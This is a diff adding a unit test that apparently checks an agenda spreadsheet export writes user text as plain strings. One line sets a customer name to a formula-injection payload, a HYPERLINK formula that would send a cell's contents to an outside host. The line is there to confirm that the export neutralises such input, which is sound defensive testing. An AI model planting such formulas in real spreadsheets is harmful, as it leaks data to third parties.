@@ -124,6 +124,16 @@ class TestAgenda(SfaActionCase):
             wizard.action_export_xlsx()["url"], f"/sfa_pipeline/agenda/{wizard.id}/xlsx"
         )
 
+    def test_xlsx_writes_text_as_text(self):
+        self.cust_a.name = '=HYPERLINK("http://example.com/?"&A5,"x")'
+        sheet = openpyxl.load_workbook(
+            io.BytesIO(self.wizard()._sfa_agenda_xlsx())
+        ).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        named = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
+        self.assertTrue(named)
+        self.assertEqual({c.data_type for c in named}, {"s"})
+
     def test_only_headers_are_offered_to_translators(self):
         """The keys of an agenda row are code, not text: none of them may end
         up in the .pot (extracted as Odoo does when exporting terms)."""
